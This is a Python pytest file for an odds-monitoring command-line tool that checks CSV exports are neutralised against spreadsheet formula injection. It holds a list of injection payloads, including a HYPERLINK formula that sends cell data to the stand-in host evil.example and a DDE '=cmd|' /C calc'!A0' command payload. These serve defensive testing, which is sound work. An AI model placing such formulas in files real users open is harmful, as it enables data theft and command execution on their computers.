"""No cell a spreadsheet would run (issue 24, OWASP "CSV Injection"): team, league and bookmaker
names from the API that are formulas (``=HYPERLINK(...)``, ``=cmd|' /C calc'!A0``, ``@SUM(1+1)``,
``+1``, ``-1+1``, with a tab or a CR in front) reach ``--export-odds --format csv`` and
``--picks --format csv`` as text a spreadsheet shows and never evaluates; numbers stay numbers;
JSON Lines keeps the names as they are.

The names come through the real path: the simulator on a loopback port, behind a proxy that
renames everything, a ``--warm``, then the commands. Picks are added through the store as the
TUI's ``a`` adds them, with names the API sent (and a tab and a CR, which the API path cleans
away before anything is cached: a pick recorded by an older oddsmon may still hold them).
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from oddsmon.sim import LoopbackServer, SimConfig, Simulator
from oddsmon.store import NewPick, Store

from ..clocks import ShiftedClock
from .hostile import Proxy, at_clock, cli_env, oddsmon, quota_headers, write_config

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1",
    "-1+1",
    "\t=1+2",
    "\r=3+4",
    " =5+6",
    "＝7+8",  # full-width equals sign
)
# What a spreadsheet evaluates: a cell whose first non-blank character is one of these...
FORMULA = re.compile(r"^[\s\u3000]*[=+\-@＝＋－＠]")
# ...unless the whole cell is a plain number (a negative price, CLV or line is a number).
NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")


def would_run(cell: str) -> bool:
    return bool(FORMULA.match(cell)) and not NUMBER.fullmatch(cell)


def _payload(name: str) -> str:
    return PAYLOADS[zlib.crc32(name.encode()) % len(PAYLOADS)]


def _renamed(value: Any) -> Any:
    """Every ``name`` in the body (teams, leagues, bookmakers, venues) replaced by a payload."""
    if isinstance(value, dict):
        return {k: _payload(v) if k == "name" and isinstance(v, str) else _renamed(v)
                for k, v in value.items()}
    if isinstance(value, list):
        return [_renamed(v) for v in value]
    return value


@pytest.fixture
def hostile_store(tmp_path: Path, day_clock: ShiftedClock) -> Iterator[Path]:
    """A config whose store was warmed from an API naming everything with formulas."""
    sim = Simulator(SimConfig(leagues=(39,), daily_limit=5000, per_minute=5000), clock=day_clock)

    async def twist(target: str, answer: httpx.Response) -> tuple[int, str, dict[str, str], bytes]:
        body = _renamed(json.loads(answer.content))
        return answer.status_code, "OK", quota_headers(answer), json.dumps(body).encode()

    with LoopbackServer(sim) as live, Proxy(live.url, twist) as proxy:
        cfg = write_config(tmp_path, proxy.url)
        warm = oddsmon(cfg, "--warm", clock=day_clock)
        assert warm.returncode == 0, warm.stdout + warm.stderr
    yield cfg


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_export_odds_csv_has_no_cell_a_spreadsheet_would_run(
        hostile_store: Path, day_clock: ShiftedClock) -> None:
    cfg = hostile_store
    out = cfg.parent / "odds.csv"
    proc = oddsmon(cfg, "--export-odds", str(out), "--format", "csv", clock=day_clock)
    assert proc.returncode == 0, proc.stderr
    header, *rows = _cells(out.read_text(encoding="utf-8"))
    assert len(rows) > 100
    columns = {name: i for i, name in enumerate(header)}
    names = {rows[0][columns[c]] for c in ("league", "home", "away", "bookmaker")}
    names |= {row[columns[c]] for row in rows for c in ("home", "away", "bookmaker")}
    names.discard("")  # a fixture no cached page describes
    # The names really were the payloads (the API path cleans the tab and CR away first).
    assert "'" + PAYLOADS[0] in names and "'=cmd|' /C calc'!A0" in names and "'+1" in names
    assert "'-1+1" in names or "'@SUM(1+1)" in names
    assert all(name.startswith("'") for name in names), names
    assert [cell for row in [header, *rows] for cell in row if would_run(cell)] == []
    # Numbers stay numbers: bare in the file, read back as numbers.
    raw = out.read_text(encoding="utf-8").splitlines()[1]
    assert re.search(r',[0-9]+(\.[0-9]+)?$', raw), raw  # the price, unquoted
    assert all(float(row[columns["price"]]) > 1 for row in rows)
    assert all(row[columns["fixture_id"]].isdigit() for row in rows)
    lines = {row[columns["line"]] for row in rows} - {""}
    assert lines and all(NUMBER.fullmatch(line) for line in lines), lines


def test_json_lines_keep_the_names_as_the_api_sent_them(hostile_store: Path, day_clock: ShiftedClock) -> None:
    proc = oddsmon(hostile_store, "--export-odds", "-", "--format", "jsonl", clock=day_clock)
    assert proc.returncode == 0
    rows = [json.loads(line) for line in proc.stdout.splitlines()]
    names = {row[key] for row in rows for key in ("league", "home", "away", "bookmaker")} - {None}
    assert PAYLOADS[0] in names and "+1" in names and not any(n.startswith("'") for n in names)


def test_picks_csv_has_no_cell_a_spreadsheet_would_run(hostile_store: Path, day_clock: ShiftedClock) -> None:
    db = hostile_store.parent / "state" / "oddsmon.db"
    store = Store.open(db)
    try:
        for i, payload in enumerate(PAYLOADS):
            store.picks.add(NewPick(1000 + i, None, f"{payload} v {payload}", payload, 12, "-1",
                                    payload, f"{payload} -1", 8, payload, 1.95, 10.0), day_clock.now())
    finally:
        store.close()
    # Read as bytes: a text-mode pipe would turn the CR into a line feed on the way.
    launcher, env = at_clock(day_clock, cli_env(hostile_store.parent))
    proc = subprocess.run([*launcher, "--config", str(hostile_store), "--picks", "--format", "csv"],
                          capture_output=True, env=env)
    assert proc.returncode == 0, proc.stderr
    text = proc.stdout.decode()
    header, *rows = _cells(text)
    assert len(rows) == len(PAYLOADS)
    columns = {name: i for i, name in enumerate(header)}
    for row, payload in zip(rows, PAYLOADS, strict=True):
        for column in ("match", "outcome", "bookmaker"):
            assert row[columns[column]].startswith("'" + payload[:1]), (column, row)
        assert row[columns["line"]] == "-1" and float(row[columns["price"]]) == 1.95  # numbers
    assert [cell for row in [header, *rows] for cell in row if would_run(cell)] == []
    raw = text.splitlines()[1]
    assert ',"-1",' in raw and ",1.95,10.0," in raw  # a number is bare, text is quoted
